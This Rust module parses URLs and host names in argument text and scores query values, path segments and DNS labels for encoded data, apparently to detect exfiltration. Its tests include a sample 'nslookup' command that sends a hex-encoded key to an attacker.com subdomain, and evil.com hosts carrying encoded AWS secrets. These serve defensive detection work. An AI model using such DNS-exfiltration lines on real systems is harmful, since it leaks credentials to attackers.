//! URLs and host names in argument text, and the data they can carry:
//! query parameters, path segments and DNS labels.

use std::ops::Range;

use memchr::memmem;

use crate::encoding::{self, Encoding, Layer};

/// One URL in a text; every range is absolute (into the text).
#[derive(Debug, Clone)]
pub struct Url {
    pub range: Range<usize>,
    pub host: Range<usize>,
    pub path: Range<usize>,
    pub query: Option<Range<usize>>,
    pub fragment: Option<Range<usize>>,
}

/// One `name=value` of a query or fragment.
#[derive(Debug, Clone)]
pub struct Param {
    /// Lowercased, percent-decoded.
    pub name: String,
    pub value: Range<usize>,
}

fn is_url_end(c: u8) -> bool {
    c.is_ascii_whitespace()
        || c.is_ascii_control()
        || matches!(
            c,
            b'"' | b'\'' | b'<' | b'>' | b'`' | b'\\' | b'^' | b'{' | b'}' | b'|'
        )
}

/// The http(s), ws(s) and ftp URLs of `text`.
pub fn find(text: &str) -> Vec<Url> {
    let b = text.as_bytes();
    let mut out: Vec<Url> = Vec::new();
    for pos in memmem::find_iter(b, b"://") {
        if out.last().is_some_and(|u| u.range.end > pos) {
            continue;
        }
        let mut start = pos;
        while start > 0 && b[start - 1].is_ascii_alphabetic() {
            start -= 1;
        }
        let scheme = &b[start..pos];
        if !["http", "https", "ws", "wss", "ftp"]
            .iter()
            .any(|s| scheme.eq_ignore_ascii_case(s.as_bytes()))
        {
            continue;
        }
        let mut end = pos + 3;
        while end < b.len() && !is_url_end(b[end]) {
            end += 1;
        }
        // Trailing punctuation and unbalanced closing brackets belong to the prose.
        while let Some(&last) = b[..end].last() {
            let open = |o: u8| b[start..end].iter().filter(|&&c| c == o).count();
            let close = |c: u8| b[start..end].iter().filter(|&&x| x == c).count();
            let unbalanced = (last == b')' && close(b')') > open(b'('))
                || (last == b']' && close(b']') > open(b'['));
            if end > pos + 3
                && (matches!(last, b'.' | b',' | b';' | b':' | b'!' | b'?' | b'*') || unbalanced)
            {
                end -= 1;
            } else {
                break;
            }
        }
        if end <= pos + 3 || !text.is_char_boundary(end) {
            continue;
        }
        if let Some(url) = parse(b, start, pos + 3, end) {
            out.push(url);
        }
    }
    out
}

fn parse(b: &[u8], start: usize, authority: usize, end: usize) -> Option<Url> {
    let auth_end = (authority..end)
        .find(|&i| matches!(b[i], b'/' | b'?' | b'#'))
        .unwrap_or(end);
    let host_start = (authority..auth_end)
        .rev()
        .find(|&i| b[i] == b'@')
        .map_or(authority, |i| i + 1);
    let mut host_end = auth_end;
    if b.get(host_start) == Some(&b'[') {
        host_end = (host_start..auth_end)
            .find(|&i| b[i] == b']')
            .map_or(auth_end, |i| i + 1);
    } else if let Some(colon) = (host_start..auth_end).find(|&i| b[i] == b':') {
        host_end = colon;
    }
    if host_end <= host_start {
        return None;
    }
    let path_end = (auth_end..end)
        .find(|&i| matches!(b[i], b'?' | b'#'))
        .unwrap_or(end);
    let (query, fragment) = match b.get(path_end) {
        Some(b'?') if path_end < end => {
            let q_end = (path_end..end).find(|&i| b[i] == b'#').unwrap_or(end);
            (
                Some(path_end + 1..q_end),
                (q_end < end).then(|| q_end + 1..end),
            )
        }
        Some(b'#') if path_end < end => (None, Some(path_end + 1..end)),
        _ => (None, None),
    };
    Some(Url {
        range: start..end,
        host: host_start..host_end,
        path: auth_end..path_end,
        query,
        fragment,
    })
}

impl Url {
    /// The parameters of the query and of a `name=value` fragment.
    pub fn params(&self, text: &str) -> Vec<Param> {
        let mut out = Vec::new();
        let parts = [(self.query.clone(), false), (self.fragment.clone(), true)];
        for (part, fragment) in parts {
            let Some(part) = part else { continue };
            let Some(s) = text.get(part.clone()) else {
                continue;
            };
            if fragment && !s.contains('=') {
                continue;
            }
            let mut at = part.start;
            for piece in s.split('&') {
                let (name, value) = match piece.find('=') {
                    Some(eq) => (&piece[..eq], at + eq + 1..at + piece.len()),
                    None => ("", at..at + piece.len()),
                };
                let name = encoding::percent_decode(name)
                    .unwrap_or_else(|| name.to_string())
                    .to_ascii_lowercase();
                if !value.is_empty() {
                    out.push(Param { name, value });
                }
                at += piece.len() + 1;
            }
        }
        out
    }

    /// The non-empty path segments.
    pub fn segments(&self, text: &str) -> Vec<Range<usize>> {
        let Some(path) = text.get(self.path.clone()) else {
            return Vec::new();
        };
        let mut out = Vec::new();
        let mut at = self.path.start;
        for seg in path.split('/') {
            if !seg.is_empty() {
                out.push(at..at + seg.len());
            }
            at += seg.len() + 1;
        }
        out
    }
}

/// The lowercase host names of `text` outside `skip` ranges (URLs): dotted
/// names ending in a top-level domain with a label of 16+ characters.
pub fn find_hosts(text: &str, skip: &[Range<usize>]) -> Vec<Range<usize>> {
    let b = text.as_bytes();
    let is_host_char = |c: u8| c.is_ascii_alphanumeric() || c == b'-' || c == b'.';
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if !is_host_char(b[i]) {
            i += 1;
            continue;
        }
        let start = i;
        let (mut dots, mut label, mut longest) = (0, 0, 0);
        while i < b.len() && is_host_char(b[i]) {
            if b[i] == b'.' {
                dots += 1;
                label = 0;
            } else {
                label += 1;
                longest = longest.max(label);
            }
            i += 1;
        }
        // Cheap tests first: most runs are words, numbers and file names.
        if dots < 2 || longest < 16 {
            continue;
        }
        let end = start
            + b[start..i]
                .iter()
                .rposition(|&c| c != b'.')
                .map_or(0, |p| p + 1);
        let Some(name) = text.get(start..end) else {
            continue;
        };
        if skip.iter().any(|s| s.start <= start && end <= s.end) || name.matches('.').count() < 2 {
            continue;
        }
        if name.rsplit('.').next().is_some_and(is_tld) {
            out.push(start..end);
        }
    }
    out
}

fn is_tld(label: &str) -> bool {
    const GTLDS: &[&str] = &[
        "com",
        "net",
        "org",
        "io",
        "co",
        "ai",
        "app",
        "dev",
        "xyz",
        "info",
        "biz",
        "me",
        "cloud",
        "site",
        "online",
        "top",
        "tech",
        "club",
        "shop",
        "store",
        "live",
        "pro",
        "link",
        "click",
        "win",
        "gov",
        "edu",
        "mil",
        "int",
        "arpa",
        "onion",
        "website",
        "space",
        "fun",
        "icu",
        "vip",
        "today",
        "world",
        "email",
        "network",
        "systems",
        "services",
        "solutions",
        "digital",
        "agency",
        "zone",
        "ninja",
        "tools",
        "run",
        "page",
        "host",
        "lol",
        "wtf",
        "rest",
        "bar",
        "buzz",
        "monster",
        "cyou",
        "sbs",
        "cfd",
        "work",
        "name",
        "mobi",
        "asia",
        "tel",
        "dns",
    ];
    // Two letters are country codes, except the file extensions that collide.
    const FILE_EXTENSIONS: &[&str] = &[
        "js", "ts", "py", "md", "rs", "sh", "go", "cs", "pl", "so", "gz", "db", "ps", "hs", "kt",
        "rb", "ml",
    ];
    let lower = label.to_ascii_lowercase();
    label.bytes().all(|c| c.is_ascii_alphabetic())
        && ((lower.len() == 2 && !FILE_EXTENSIONS.contains(&lower.as_str()))
            || GTLDS.contains(&lower.as_str()))
}

/// What a DNS label, value or path segment carries.
#[derive(Debug, Clone, PartialEq)]
pub enum Payload {
    /// Encoded text (the decoded text is kept for the recognizers; never reported).
    Text { encoding: Encoding, text: String },
    /// An encoded bare token: data only if it is a credential.
    Token { encoding: Encoding, text: String },
    /// Compressed data.
    Archive {
        encoding: Encoding,
        kind: &'static str,
    },
    /// A long opaque high-entropy value.
    Opaque,
    /// Many lines of plain text (a file's contents).
    MultiLine,
}

/// The data a query value or path segment (percent-decoded) carries.
/// Tokens (JWTs), links and public key material are not data.
pub fn value_payload(value: &str) -> Option<Payload> {
    let v = value.trim();
    if encoding::is_jwt(v) {
        return None;
    }
    if let Some((enc, bytes)) = encoding::decode_token(v, 16) {
        match encoding::text_layer(&bytes, 16) {
            Some(Layer::Text(text)) if encoding::is_benign_text(&text) => return None,
            Some(Layer::Text(text)) => {
                return Some(Payload::Text {
                    encoding: enc,
                    text,
                });
            }
            Some(Layer::Token(text)) => {
                return Some(Payload::Token {
                    encoding: enc,
                    text,
                });
            }
            None => {}
        }
        if let Some(kind) = encoding::archive_kind(&bytes).filter(|_| bytes.len() >= 24) {
            return Some(Payload::Archive {
                encoding: enc,
                kind,
            });
        }
    }
    if v.len() >= 100 && (encoding::is_base64(v) || encoding::is_hex(v)) {
        let bits = encoding::entropy(v.as_bytes());
        let digits = v.bytes().filter(u8::is_ascii_digit).count();
        if bits >= if encoding::is_hex(v) { 3.5 } else { 4.5 } && digits * 20 >= v.len() {
            return Some(Payload::Opaque);
        }
    }
    if v.len() >= 200 && v.matches('\n').count() >= 3 {
        return Some(Payload::MultiLine);
    }
    None
}

fn carries(value: &str) -> bool {
    !matches!(value_payload(value), None | Some(Payload::Token { .. }))
}

/// True when the URL's host, path or parameters carry data by the checks above.
pub fn url_carries_data(text: &str, url: &Url) -> bool {
    // Every check needs a run of 16 value characters; most links have none.
    let long_run = text.as_bytes()[url.range.clone()]
        .split(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'+' | b'=' | b'_' | b'-' | b'%')))
        .any(|run| run.len() >= 16);
    if !long_run {
        return false;
    }
    let decoded = |r: &Range<usize>| {
        let raw = text.get(r.clone()).unwrap_or("");
        encoding::percent_decode(raw).unwrap_or_else(|| raw.to_string())
    };
    host_payload(text.get(url.host.clone()).unwrap_or("")).is_some()
        || url.segments(text).iter().any(|s| carries(&decoded(s)))
        || url
            .params(text)
            .iter()
            .any(|p| !is_safe_param(&p.name) && carries(&decoded(&p.value)))
}

/// Query parameters whose values are opaque by design: signatures, OAuth
/// and SAML state, pagination cursors, analytics click ids.
pub fn is_safe_param(name: &str) -> bool {
    const NAMES: &[&str] = &[
        "signature",
        "sig",
        "se",
        "sp",
        "sv",
        "sr",
        "st",
        "spr",
        "skoid",
        "sktid",
        "skt",
        "ske",
        "sks",
        "skv",
        "policy",
        "key-pair-id",
        "expires",
        "hmac",
        "hash",
        "checksum",
        "digest",
        "integrity",
        "nonce",
        "state",
        "code",
        "code_challenge",
        "samlrequest",
        "samlresponse",
        "relaystate",
        "sigalg",
        "cursor",
        "page_token",
        "pagetoken",
        "nexttoken",
        "next_token",
        "next_page_token",
        "continuation",
        "continuationtoken",
        "after",
        "before",
        "marker",
        "start-after",
        "startafter",
        "gclid",
        "fbclid",
        "msclkid",
        "dclid",
        "gbraid",
        "wbraid",
        "_ga",
        "_gl",
        "mc_eid",
        "mc_cid",
        "igshid",
        "si",
        "ved",
        "ei",
        "sxsrf",
        "sca_esv",
        "pb",
        "usg",
        "ust",
        "opi",
        "etag",
        "version",
        "rev",
        "sha",
        "commit",
        "ref",
        "oid",
        "crc",
        "v",
        "vid",
        "uuid",
        "guid",
        "yclid",
        "ttclid",
        "twclid",
        "li_fat_id",
        "_hsenc",
        "_hsmi",
        "mkt_tok",
        "oly_enc_id",
        "oly_anon_id",
        "rb_clickid",
        "s_kwcid",
        "ef_id",
        "epik",
        "scid",
        "_kx",
        "trk",
        "ck_subscriber_id",
        "cid",
        "sessionid",
    ];
    const PREFIXES: &[&str] = &[
        "x-amz-", "x-goog-", "utm_", "hsa_", "pd_rd_", "pf_rd_", "x-oss-", "x-cos-",
    ];
    NAMES.contains(&name) || PREFIXES.iter().any(|p| name.starts_with(p))
}

/// Why a DNS label looks like data, with how sure that is.
pub fn label_payload(label: &str) -> Option<(&'static str, bool)> {
    if label.len() < 16 {
        return None;
    }
    if encoding::is_hex(label) {
        if encoding::decode_hex(label).is_some_and(|b| encoding::as_text(&b, 8).is_some()) {
            return Some(("hex-encoded text", true));
        }
    } else if label
        .bytes()
        .all(|c| c.is_ascii_alphabetic() || (b'2'..=b'7').contains(&c))
        && encoding::decode_base32(label).is_some_and(|b| encoding::as_text(&b, 8).is_some())
    {
        return Some(("base32-encoded text", true));
    }
    let mixed_case = label.bytes().any(|c| c.is_ascii_uppercase())
        && label.bytes().any(|c| c.is_ascii_lowercase());
    if mixed_case
        && encoding::decode_base64(label).is_some_and(|b| encoding::as_text(&b, 8).is_some())
    {
        return Some(("base64-encoded text", true));
    }
    // IPFS subdomain gateways put a CIDv1 (`bafy…`, base32 of a hash) in a label.
    let cid = label.len() >= 50 && (label.starts_with("bafy") || label.starts_with("bafk"));
    if label.len() >= 40 && !cid && label.bytes().all(|c| c.is_ascii_alphanumeric()) {
        let digits = label.bytes().filter(u8::is_ascii_digit).count();
        let letters = label.len() - digits;
        if digits >= 4
            && letters >= 4
            && encoding::entropy(label.to_ascii_lowercase().as_bytes()) >= 3.5
        {
            return Some(("a long random label", false));
        }
    }
    None
}

/// The labels of `host` that carry data (the registered name and the
/// top-level domain are the attacker's own, not data): their byte range in
/// the host and a description. Chunked exfiltration (`<chunk>.<chunk>.x.com`)
/// counts when two or more long hex/base32 labels follow each other.
pub fn host_payload(host: &str) -> Option<(Range<usize>, &'static str, bool)> {
    if host.parse::<std::net::Ipv4Addr>().is_ok() || host.starts_with('[') {
        return None;
    }
    let labels: Vec<(usize, &str)> = {
        let mut at = 0;
        host.split('.')
            .map(|l| {
                let r = (at, l);
                at += l.len() + 1;
                r
            })
            .collect()
    };
    if labels.len() < 3 {
        return None;
    }
    let data_labels = &labels[..labels.len() - 2];
    let mut first: Option<(Range<usize>, &'static str, bool)> = None;
    let mut chunk_run = 0;
    let mut chunk_start = 0;
    for &(at, l) in data_labels {
        if let Some((what, sure)) = label_payload(l) {
            let better = first.as_ref().is_none_or(|(_, _, s)| sure && !s);
            if better {
                first = Some((at..at + l.len(), what, sure));
            }
        }
        let chunky = l.len() >= 24
            && l.bytes().all(|c| c.is_ascii_alphanumeric())
            && l.bytes().filter(u8::is_ascii_digit).count() >= 3
            && encoding::entropy(l.to_ascii_lowercase().as_bytes()) >= 3.3;
        if chunky {
            if chunk_run == 0 {
                chunk_start = at;
            }
            chunk_run += 1;
            if chunk_run >= 2 && first.as_ref().is_none_or(|(_, _, s)| !s) {
                first = Some((
                    chunk_start..at + l.len(),
                    "data split across several labels",
                    true,
                ));
            }
        } else {
            chunk_run = 0;
        }
    }
    first
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_and_parses_urls() {
        let t = "see (https://user:pw@Example.com:8443/a/b?x=1&y=two#frag) and http://h.io.";
        let urls = find(t);
        assert_eq!(urls.len(), 2);
        let u = &urls[0];
        assert_eq!(
            &t[u.range.clone()],
            "https://user:pw@Example.com:8443/a/b?x=1&y=two#frag"
        );
        assert_eq!(&t[u.host.clone()], "Example.com");
        assert_eq!(&t[u.path.clone()], "/a/b");
        let params: Vec<(String, &str)> = u
            .params(t)
            .into_iter()
            .map(|p| (p.name, &t[p.value]))
            .collect();
        assert_eq!(params, [("x".to_string(), "1"), ("y".to_string(), "two")]);
        let segs: Vec<&str> = u.segments(t).into_iter().map(|r| &t[r]).collect();
        assert_eq!(segs, ["a", "b"]);
        assert_eq!(&t[urls[1].range.clone()], "http://h.io");
    }

    #[test]
    fn finds_host_names_outside_urls() {
        let t = "nslookup 4157414e4b45593d31323334.x.attacker.com; cat report_final.tar.gz; main.3f9a2b1c8d7e6f5a4b3c.js";
        let hosts: Vec<&str> = find_hosts(t, &[]).into_iter().map(|r| &t[r]).collect();
        assert_eq!(hosts, ["4157414e4b45593d31323334.x.attacker.com"]);
    }

    #[test]
    fn judges_dns_labels() {
        assert!(host_payload("4157535f5345435245543d774a616c72.evil.com").is_some());
        assert!(host_payload("mzxw6ytboi2dcmrtgq2tmnzy.evil.com").is_some());
        assert!(host_payload("a1b2c3d4e5f60718293a4b5c6d7e8f9012345678abcd.evil.com").is_some());
        assert!(
            host_payload(
                "3f9a2b1c8d7e6f5a4b3c2d1e0f9a8b7c.d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4.evil.com"
            )
            .is_some()
        );
        // Ordinary long host names.
        assert!(
            host_payload("abcdefghijkl1234567890abcdefgh12.lambda-url.us-east-1.on.aws").is_none()
        );
        assert!(host_payload("my-service-production-eu.internal.example.com").is_none());
        assert!(host_payload("d1a2b3c4d5e6f7.cloudfront.net").is_none());
        assert!(host_payload("ec2-54-210-167-99.compute-1.amazonaws.com").is_none());
        assert!(host_payload("verylongsubdomainnamefortesting.example.com").is_none());
        assert!(host_payload("bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi.ipfs.dweb.link").is_none());
    }

    #[test]
    fn judges_values() {
        assert!(matches!(
            value_payload("QVdTX1NFQ1JFVF9BQ0NFU1NfS0VZPXdKYWxy"),
            Some(Payload::Text { .. })
        ));
        assert_eq!(
            value_payload("1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms"),
            None
        );
        assert_eq!(
            value_payload("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
            None
        );
        assert_eq!(value_payload("how to bake bread"), None);
        assert_eq!(
            value_payload("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc"),
            None
        );
        assert_eq!(
            value_payload("aHR0cHM6Ly9leGFtcGxlLmNvbS9pbWFnZXMvY2F0LnBuZw"),
            None
        );
    }
}
